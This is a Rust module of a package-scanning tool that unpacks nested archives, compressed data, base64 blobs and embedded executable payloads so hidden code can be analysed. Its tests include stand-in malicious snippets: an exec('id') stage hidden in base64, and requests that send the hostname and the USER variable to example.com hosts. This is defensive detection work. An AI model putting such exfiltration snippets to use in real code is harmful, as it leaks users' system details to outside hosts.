//! Containers that hide the program: what a file holds besides itself. Before analysis every
//! file of a target is opened as deep as it goes:
//!
//! - executables through their runtime's reader (Bun module graph, Node SEA blob with every
//!   asset, `deno compile`, pkg, nexe): source modules become JavaScript inputs named
//!   `package/copilot › sea-loader.js`, payloads (a SEA asset `copilot.tgz`, a native addon)
//!   are opened in turn, and what is bytecode or unreadable is noted for coverage; a native
//!   binary with no runtime payload is read for its strings, and an archive appended to it
//!   or gzip data inside it is opened;
//! - archives inside the package (a tarball in a tarball, a zip, a gzip file) by their
//!   magic bytes: `pkg.tgz › vendor/app.tgz › package/index.js`;
//! - archives encoded as base64 in JavaScript (`"H4sI…"`, `"UEsDB…"`):
//!   `index.js › base64@1042 › package/x.js`.
//!
//! Everything shares the target's limits: one budget of uncompressed bytes and entries for
//! the target and all it holds, and at most [`MAX_DEPTH`] containers deep. Byte-identical
//! large files (the same binary in two platform packages) are analysed once and listed.

use crate::analyse::wanted_file;
use crate::options::ScanOptions;
use base64::Engine;
use std::borrow::Cow;
use std::collections::HashMap;
use std::io::Read;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;
use telltale_ingest::executable::{
    embedded_modules, is_executable, Embedded, EmbeddedFile, EmbeddedModule,
};
use telltale_report::coverage::{Container, Coverage, Identical};

/// Containers inside containers, at most.
pub const MAX_DEPTH: usize = 4;
/// Files at least this large are compared with those seen before in the same scan.
const SAME_FILE_MIN_BYTES: usize = 256 << 10;
/// Shortest base64 run taken for an embedded archive.
const MIN_BASE64_ARCHIVE: usize = 64;

/// What to analyse: a file of the target or something found inside one.
pub(crate) struct Input<'a> {
    /// `package/copilot › asset:copilot.tgz › package/index.js`.
    pub path: String,
    pub content: Content<'a>,
}

pub(crate) enum Content<'a> {
    /// A file, analysed by its name (sources by extension).
    File(Cow<'a, [u8]>),
    /// Source text a runtime executable embeds, analysed as JavaScript or TypeScript.
    Script(Cow<'a, str>),
    /// A native binary (or WebAssembly) with no source inside: its strings and imports.
    Native(Cow<'a, [u8]>),
}

/// Large files seen so far in one scan (all targets of one spec), by content hash.
#[derive(Default)]
pub struct SeenFiles(Mutex<HashMap<[u8; 32], String>>);

impl SeenFiles {
    /// The earlier file with these bytes, or `None` after recording this one as `path`.
    fn earlier(&self, path: String, bytes: &[u8]) -> Option<String> {
        if bytes.len() < SAME_FILE_MIN_BYTES {
            return None;
        }
        let hash: [u8; 32] = blake3::Hasher::new().update_rayon(bytes).finalize().into();
        let mut seen = self.0.lock().unwrap_or_else(|e| e.into_inner());
        match seen.get(&hash) {
            Some(first) => Some(first.clone()),
            None => {
                seen.insert(hash, path);
                None
            }
        }
    }
}

/// The inputs of one target file and what opening it taught about coverage.
#[derive(Default)]
pub(crate) struct Opened<'a> {
    pub inputs: Vec<Input<'a>>,
    pub coverage: Coverage,
    pub warnings: Vec<String>,
}

/// What one target may still read, shared by everything nested in it.
pub(crate) struct Budget {
    bytes: AtomicU64,
    entries: AtomicU64,
}

impl Budget {
    /// What is left of the limits after the target itself was read.
    pub fn after(opts: &ScanOptions, bytes_read: u64, entries: u64) -> Self {
        Budget {
            bytes: AtomicU64::new(opts.limits.max_total_bytes.saturating_sub(bytes_read)),
            entries: AtomicU64::new(opts.limits.max_entries.saturating_sub(entries)),
        }
    }

    /// Limits for one nested read: what is left.
    fn limits(&self, opts: &ScanOptions) -> telltale_ingest::Limits {
        telltale_ingest::Limits {
            max_total_bytes: self.bytes.load(Ordering::Relaxed),
            max_entries: self.entries.load(Ordering::Relaxed),
            ..opts.limits
        }
    }

    /// Take `n` bytes and `entries` entries; false when they are not there.
    fn take(&self, n: u64, entries: u64) -> bool {
        let took_bytes = self
            .bytes
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
                left.checked_sub(n)
            })
            .is_ok();
        let took_entries = self
            .entries
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
                left.checked_sub(entries)
            })
            .is_ok();
        took_bytes && took_entries
    }
}

/// What opening the files of one target shares.
pub(crate) struct Ctx<'c> {
    pub opts: &'c ScanOptions,
    pub seen: &'c SeenFiles,
    pub budget: &'c Budget,
    /// The target's name, to say where an identical file was analysed.
    pub target: &'c str,
}

/// Open one file of the target as deep as it goes.
pub(crate) fn open<'a>(path: &str, bytes: &'a [u8], ctx: &Ctx) -> Opened<'a> {
    let mut out = Opened::default();
    open_into(path, Cow::Borrowed(bytes), 0, ctx, &mut out);
    out
}

fn open_into<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
    if let Some(first) = ctx.seen.earlier(format!("{} › {path}", ctx.target), &bytes) {
        out.coverage.identical.push(Identical {
            path: path.to_string(),
            same_as: first,
            bytes: bytes.len() as u64,
        });
        return;
    }
    if bytes.starts_with(ZSTD_MAGIC) {
        return open_zstd(path, &bytes, depth, ctx, out);
    }
    if is_executable(&bytes) {
        return open_executable(path, bytes, depth, ctx, out);
    }
    if let Some(format) = telltale_ingest::container_format(&bytes) {
        return open_archive(path, format, &bytes, depth, ctx, out);
    }
    if is_wasm(&bytes) {
        out.inputs.push(Input {
            path: path.to_string(),
            content: Content::Native(bytes),
        });
        return;
    }
    if depth < MAX_DEPTH && crate::analyse::is_script_path(path) {
        open_base64_archives(path, &bytes, depth, ctx, out);
    }
    out.inputs.push(Input {
        path: path.to_string(),
        content: Content::File(bytes),
    });
}

/// A zstd frame starts so.
const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];

/// A zstd-compressed file (a compressed asset, a `.tar.zst`): its content, opened in turn
/// under the same name.
fn open_zstd<'a>(path: &str, bytes: &[u8], depth: usize, ctx: &Ctx, out: &mut Opened<'a>) {
    if depth >= MAX_DEPTH {
        out.coverage.add_unanalysed(
            path,
            bytes.len() as u64,
            format!("zstd data nested more than {MAX_DEPTH} containers deep"),
        );
        return;
    }
    let cap = ctx
        .budget
        .limits(ctx.opts)
        .max_total_bytes
        .min(ctx.opts.limits.max_file_bytes);
    let mut data = Vec::new();
    let read = ruzstd::decoding::StreamingDecoder::new(bytes)
        .map_err(|e| e.to_string())
        .and_then(|d| {
            d.take(cap.saturating_add(1))
                .read_to_end(&mut data)
                .map_err(|e| e.to_string())
        });
    match read {
        Err(e) => out.coverage.add_unanalysed(
            path,
            bytes.len() as u64,
            format!("zstd data that could not be decompressed: {e}"),
        ),
        Ok(_) if data.len() as u64 > cap || !ctx.budget.take(data.len() as u64, 1) => {
            out.coverage.add_unanalysed(
                path,
                bytes.len() as u64,
                "zstd data over the target's limits (--max-archive-bytes, --max-file-bytes)",
            )
        }
        Ok(_) => {
            out.coverage.containers.push(Container {
                path: path.to_string(),
                format: "zstd".into(),
                files: 1,
            });
            open_into(path, Cow::Owned(data), depth + 1, ctx, out);
        }
    }
}

fn is_wasm(bytes: &[u8]) -> bool {
    bytes.starts_with(b"\0asm")
}

/// Opens an archive found inside the target (or inside something in it).
fn open_archive<'a>(
    path: &str,
    format: &str,
    bytes: &[u8],
    depth: usize,
    ctx: &Ctx,
    out: &mut Opened<'a>,
) {
    if depth >= MAX_DEPTH {
        out.coverage.add_unanalysed(
            path,
            bytes.len() as u64,
            format!("a {format} archive nested more than {MAX_DEPTH} containers deep"),
        );
        return;
    }
    // Named by its last component: a gzip file that holds no tar is one file without `.gz`.
    let short = path.rsplit(" › ").next().unwrap_or(path);
    let wanted = |p: &str| wanted_file(p);
    let loaded = telltale_ingest::load_bytes(short, bytes, &ctx.budget.limits(ctx.opts), &wanted);
    let target = match loaded {
        Ok(t) => t,
        Err(e) => {
            out.coverage.add_unanalysed(
                path,
                bytes.len() as u64,
                format!("a {format} archive that could not be opened: {e}"),
            );
            return;
        }
    };
    if !ctx
        .budget
        .take(target.bytes_read, target.files.len() as u64)
    {
        out.coverage.add_unanalysed(path, bytes.len() as u64, "over the target's limits (--max-archive-bytes, --max-archive-entries) once its nested archives are counted");
        return;
    }
    out.coverage.containers.push(Container {
        path: path.to_string(),
        format: format.to_string(),
        files: target.files.len() as u64,
    });
    out.warnings
        .extend(target.warnings.into_iter().map(|w| format!("{path}: {w}")));
    for f in target.files {
        let inner = format!("{path} › {}", f.path);
        open_into(&inner, Cow::Owned(f.bytes), depth + 1, ctx, out);
    }
}

/// An executable: its runtime's payload, or else its strings (and archives inside it).
fn open_executable<'a>(
    path: &str,
    bytes: Cow<'a, [u8]>,
    depth: usize,
    ctx: &Ctx,
    out: &mut Opened<'a>,
) {
    let embedded = match &bytes {
        Cow::Borrowed(b) => embedded_modules(b),
        Cow::Owned(b) => embedded_modules(b).map(into_owned),
    };
    let Some(embedded) = embedded else {
        if let Some(runtime) = runtime_marker(&bytes) {
            out.coverage.add_unanalysed(
                path,
                bytes.len() as u64,
                format!("a {runtime} executable whose embedded program could not be read"),
            );
        }
        if depth < MAX_DEPTH {
            open_archives_in_binary(path, &bytes, depth, ctx, out);
        }
        out.inputs.push(Input {
            path: path.to_string(),
            content: Content::Native(bytes),
        });
        return;
    };
    let Embedded {
        format,
        modules,
        files,
        unreadable,
    } = embedded;
    let found = modules.len() + files.len();
    out.coverage.containers.push(Container {
        path: path.to_string(),
        format: format.to_string(),
        files: found as u64,
    });
    if found == 0 && unreadable.is_empty() {
        out.coverage.add_unanalysed(
            path,
            bytes.len() as u64,
            format!("a {format} executable with no readable program in it"),
        );
    }
    for u in unreadable {
        out.coverage
            .add_unanalysed(&format!("{path} › {}", u.name), u.bytes, u.why);
    }
    let nothing_read = modules.is_empty() && files.is_empty();
    for m in modules {
        out.inputs.push(Input {
            path: format!("{path} › {}", m.name),
            content: Content::Script(m.text),
        });
    }
    for f in files {
        let inner = format!("{path} › {}", f.name);
        let data = f.bytes;
        if depth + 1 > MAX_DEPTH {
            out.coverage.add_unanalysed(
                &inner,
                data.len() as u64,
                format!("nested more than {MAX_DEPTH} containers deep"),
            );
            continue;
        }
        open_payload(&inner, data, depth + 1, ctx, out);
    }
    if nothing_read {
        // Nothing readable as source: the binary's strings are still searched.
        out.inputs.push(Input {
            path: path.to_string(),
            content: Content::Native(bytes),
        });
    }
}

/// A payload an executable carries: code by name or magic, else not code (images, text).
fn open_payload<'a>(
    path: &str,
    bytes: Cow<'a, [u8]>,
    depth: usize,
    ctx: &Ctx,
    out: &mut Opened<'a>,
) {
    let code = is_executable(&bytes)
        || is_wasm(&bytes)
        || bytes.starts_with(ZSTD_MAGIC)
        || telltale_ingest::container_format(&bytes).is_some()
        || crate::analyse::kind_of(path).is_some();
    if code {
        open_into(path, bytes, depth, ctx, out);
    }
}

/// What a reader found in bytes that are about to be dropped, as owned data.
fn into_owned(e: Embedded<'_>) -> Embedded<'static> {
    Embedded {
        format: e.format,
        modules: e
            .modules
            .into_iter()
            .map(|m| EmbeddedModule {
                name: m.name,
                text: Cow::Owned(m.text.into_owned()),
            })
            .collect(),
        files: e
            .files
            .into_iter()
            .map(|f| EmbeddedFile {
                name: f.name,
                bytes: Cow::Owned(f.bytes.into_owned()),
            })
            .collect(),
        unreadable: e.unreadable,
    }
}

/// The JavaScript runtime an executable was built with, by marks its packer leaves, for a
/// payload the readers could not open: that is code not analysed, not a plain binary.
fn runtime_marker(bytes: &[u8]) -> Option<&'static str> {
    const SEA_FUSE_FLIPPED: &[u8] = b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1";
    const BUN_TRAILER: &[u8] = b"\n---- Bun! ----\n";
    if memchr::memmem::find(bytes, SEA_FUSE_FLIPPED).is_some() {
        return Some("Node single-executable");
    }
    let tail = &bytes[bytes.len().saturating_sub(1 << 20)..];
    if memchr::memmem::find(tail, BUN_TRAILER).is_some() {
        return Some("Bun");
    }
    None
}

/// Archives inside a native binary: a zip appended to it (self-extracting and packed apps),
/// and gzip streams whose header and first bytes read as a tarball or text.
fn open_archives_in_binary<'a>(
    path: &str,
    bytes: &[u8],
    depth: usize,
    ctx: &Ctx,
    out: &mut Opened<'a>,
) {
    if let Some(start) = appended_zip(bytes) {
        open_archive(
            &format!("{path} › zip@{start}"),
            "zip",
            &bytes[start..],
            depth + 1,
            ctx,
            out,
        );
    }
    for at in memchr::memmem::find_iter(bytes, &[0x1f, 0x8b, 0x08]) {
        if !plausible_gzip_header(&bytes[at..]) {
            continue;
        }
        let Some(data) = inflate_gzip_member(&bytes[at..], ctx) else {
            continue;
        };
        let name = format!("{path} › gzip@{at}");
        if telltale_ingest::container_format(&data) == Some("tar") {
            open_archive(&name, "gzip", &data, depth + 1, ctx, out);
        } else {
            out.coverage.containers.push(Container {
                path: name.clone(),
                format: "gzip".into(),
                files: 1,
            });
            out.inputs.push(Input {
                path: format!("{name}.js"),
                content: Content::File(Cow::Owned(data)),
            });
        }
    }
}

/// Where a zip appended to other bytes starts: its end record's central directory offset,
/// moved by the bytes in front of it, lands on a central directory header.
fn appended_zip(bytes: &[u8]) -> Option<usize> {
    let window = bytes.len().saturating_sub(22 + 0xFFFF);
    let eocd = window + memchr::memmem::rfind(&bytes[window..], b"PK\x05\x06")?;
    let le32 = |at: usize| {
        bytes
            .get(at..at + 4)
            .map(|s| u32::from_le_bytes([s[0], s[1], s[2], s[3]]) as usize)
    };
    let (cd_size, cd_offset) = (le32(eocd + 12)?, le32(eocd + 16)?);
    let cd_start = eocd.checked_sub(cd_size)?;
    let zip_start = cd_start.checked_sub(cd_offset)?;
    (bytes.get(cd_start..cd_start + 4)? == b"PK\x01\x02"
        && bytes.get(zip_start..zip_start + 4)? == b"PK\x03\x04"
        && zip_start > 0)
        .then_some(zip_start)
}

/// A gzip member header as compressors write it: deflate, no reserved flags, a known
/// extra-flags value and operating system.
fn plausible_gzip_header(b: &[u8]) -> bool {
    b.len() > 18 && b[3] & 0xe0 == 0 && matches!(b[8], 0 | 2 | 4) && (b[9] <= 13 || b[9] == 255)
}

/// The member's data when its first kilobytes inflate; bounded by the budget.
fn inflate_gzip_member(b: &[u8], ctx: &Ctx) -> Option<Vec<u8>> {
    let mut probe = Vec::new();
    flate2::read::GzDecoder::new(b)
        .take(4096)
        .read_to_end(&mut probe)
        .ok()?;
    if probe.len() < 512 && !looks_like_source(&probe) {
        return None;
    }
    if !(telltale_ingest::container_format(&probe) == Some("tar") || looks_like_source(&probe)) {
        return None;
    }
    let cap = ctx
        .budget
        .limits(ctx.opts)
        .max_total_bytes
        .min(ctx.opts.limits.max_file_bytes);
    let mut data = Vec::new();
    flate2::read::GzDecoder::new(b)
        .take(cap.saturating_add(1))
        .read_to_end(&mut data)
        .ok()?;
    if data.len() as u64 > cap || !ctx.budget.take(data.len() as u64, 1) {
        return None;
    }
    Some(data)
}

/// Text that reads as program source: UTF-8 (perhaps cut at the end), no NUL, with code
/// punctuation.
fn looks_like_source(b: &[u8]) -> bool {
    let head = &b[..b.len().min(2048)];
    let utf8 = match std::str::from_utf8(head) {
        Ok(_) => true,
        Err(e) => e.error_len().is_none(),
    };
    head.len() >= 64
        && utf8
        && !head.contains(&0)
        && head
            .iter()
            .filter(|&&c| matches!(c, b'(' | b'{' | b';' | b'='))
            .count()
            >= 4
}

/// Archives a script carries as base64 strings: gzip (`H4sI`) and zip (`UEsDB`).
fn open_base64_archives<'a>(
    path: &str,
    bytes: &[u8],
    depth: usize,
    ctx: &Ctx,
    out: &mut Opened<'a>,
) {
    for marker in [&b"H4sI"[..], b"UEsDB"] {
        for at in memchr::memmem::find_iter(bytes, marker) {
            // A base64 run starts here, after a quote or other non-base64 byte.
            if at > 0 && is_base64_byte(bytes[at - 1]) {
                continue;
            }
            let len = bytes[at..]
                .iter()
                .take_while(|&&b| is_base64_byte(b) || b == b'=')
                .count();
            if len < MIN_BASE64_ARCHIVE {
                continue;
            }
            let text = &bytes[at..at + len];
            let Ok(decoded) = base64::engine::general_purpose::STANDARD
                .decode(text)
                .or_else(|_| {
                    base64::engine::general_purpose::STANDARD_NO_PAD.decode(text.trim_ascii_end())
                })
            else {
                continue;
            };
            let Some(format) = telltale_ingest::container_format(&decoded) else {
                continue;
            };
            open_archive(
                &format!("{path} › base64@{at}"),
                &format!("base64 {format}"),
                &decoded,
                depth + 1,
                ctx,
                out,
            );
        }
    }
}

fn is_base64_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
            Vec::new(),
            flate2::Compression::fast(),
        ));
        for (name, data) in files {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o644);
            h.set_cksum();
            builder.append_data(&mut h, name, *data).unwrap();
        }
        builder.into_inner().unwrap().finish().unwrap()
    }

    /// Open with the default limits, as the only file of a target named `t`.
    fn open_fresh<'a>(path: &str, bytes: &'a [u8]) -> Opened<'a> {
        let opts = ScanOptions::default();
        let budget = Budget::after(&opts, 0, 0);
        open(
            path,
            bytes,
            &Ctx {
                opts: &opts,
                seen: &SeenFiles::default(),
                budget: &budget,
                target: "t",
            },
        )
    }

    fn open_all(path: &str, bytes: &[u8]) -> Vec<String> {
        open_fresh(path, bytes)
            .inputs
            .iter()
            .map(|i| i.path.clone())
            .collect()
    }

    #[test]
    fn a_tarball_in_a_tarball_is_opened_and_named_by_its_path() {
        let inner = tgz(&[("package/index.js", b"fetch('https://t.example.com')")]);
        let outer = tgz(&[("package/vendor/app.tgz", &inner)]);
        let target =
            telltale_ingest::load_bytes("p.tgz", &outer, &Default::default(), &|p| wanted_file(p))
                .unwrap();
        assert_eq!(
            target.files.len(),
            1,
            "archives are loaded from the package"
        );
        let paths = open_all(&target.files[0].path, &target.files[0].bytes);
        assert_eq!(paths, ["package/vendor/app.tgz › package/index.js"]);
    }

    #[test]
    fn base64_archives_in_scripts_are_opened() {
        let inner = tgz(&[("package/stage2.js", b"require('child_process').exec('id')")]);
        let b64 = base64::engine::general_purpose::STANDARD.encode(&inner);
        let js = format!(
            "const blob = \"{b64}\";\nrequire('zlib').gunzipSync(Buffer.from(blob, 'base64'));"
        );
        let paths = open_all("package/index.js", js.as_bytes());
        assert_eq!(
            paths,
            [
                "package/index.js › base64@14 › package/stage2.js",
                "package/index.js"
            ]
        );
    }

    #[test]
    fn nesting_past_the_limit_is_noted_not_followed() {
        let mut data = tgz(&[("package/index.js", b"1")]);
        for i in 0..MAX_DEPTH + 1 {
            data = tgz(&[(&format!("package/l{i}.tgz"), &data)]);
        }
        let o = open_fresh("x.tgz", &data);
        assert!(o.inputs.is_empty());
        assert_eq!(
            o.coverage.unanalysed.len(),
            1,
            "{:?}",
            o.coverage.unanalysed
        );
        assert!(o.coverage.unanalysed[0].why.contains("nested more than"));
    }

    #[test]
    fn zstd_data_is_opened_under_its_own_name() {
        // A zstd frame of one raw block holding the text (level-0 framing, as encoders write
        // for incompressible input).
        let text = b"require('https').get('https://z.example.com/?h=' + require('os').hostname())";
        let mut frame = ZSTD_MAGIC.to_vec();
        frame.push(0x20); // single segment, content size in one byte
        frame.push(text.len() as u8);
        let header = (text.len() as u32) << 3 | 1; // last block, raw
        frame.extend_from_slice(&header.to_le_bytes()[..3]);
        frame.extend_from_slice(text);
        let o = open_fresh("package/claude › /$bunfs/root/x.min.js", &frame);
        assert_eq!(o.inputs.len(), 1);
        assert!(matches!(&o.inputs[0].content, Content::File(b) if b.as_ref() == text));
        assert_eq!(o.coverage.containers[0].format, "zstd");
        let broken = open_fresh("x.js", &frame[..9]);
        assert!(
            broken.inputs.is_empty() && broken.coverage.unanalysed[0].why.contains("zstd"),
            "{:?}",
            broken.coverage.unanalysed
        );
    }

    #[test]
    fn identical_large_files_are_analysed_once() {
        let big = vec![b'x'; SAME_FILE_MIN_BYTES + 1];
        let opts = ScanOptions::default();
        let seen = SeenFiles::default();
        let budget = Budget::after(&opts, 0, 0);
        let ctx = |target| Ctx {
            opts: &opts,
            seen: &seen,
            budget: &budget,
            target,
        };
        assert_eq!(
            open("package/bin/tool", &big, &ctx("npm:tool-linux-x64@1.0.0"))
                .inputs
                .len(),
            1
        );
        let again = open(
            "package/bin/tool",
            &big,
            &ctx("npm:tool-linux-x64-baseline@1.0.0"),
        );
        assert!(again.inputs.is_empty());
        assert_eq!(
            again.coverage.identical,
            [Identical {
                path: "package/bin/tool".into(),
                same_as: "npm:tool-linux-x64@1.0.0 › package/bin/tool".into(),
                bytes: big.len() as u64
            }]
        );
    }

    #[test]
    fn an_appended_zip_and_gzip_in_a_binary_are_found() {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file("app/main.js", zip::write::SimpleFileOptions::default())
            .unwrap();
        std::io::Write::write_all(&mut zip, b"require('os').hostname()").unwrap();
        let zip = zip.finish().unwrap().into_inner();
        let mut exe = b"\x7fELF\x02\x01\x01\0 a native stub ".to_vec();
        exe.extend_from_slice(&[0; 100]);
        let gz_at = exe.len();
        let js = tgz(&[(
            "package/hidden.js",
            b"fetch('https://h.example.com/?u=' + process.env.USER)",
        )]);
        exe.extend_from_slice(&js);
        exe.extend_from_slice(&[0; 50]);
        let zip_at = exe.len();
        exe.extend_from_slice(&zip);
        let paths = open_all("bin/tool", &exe);
        assert!(
            paths.contains(&format!("bin/tool › zip@{zip_at} › app/main.js")),
            "{paths:?}"
        );
        assert!(
            paths.contains(&format!("bin/tool › gzip@{gz_at} › package/hidden.js")),
            "{paths:?}"
        );
        assert!(paths.contains(&"bin/tool".to_string()));
    }
}
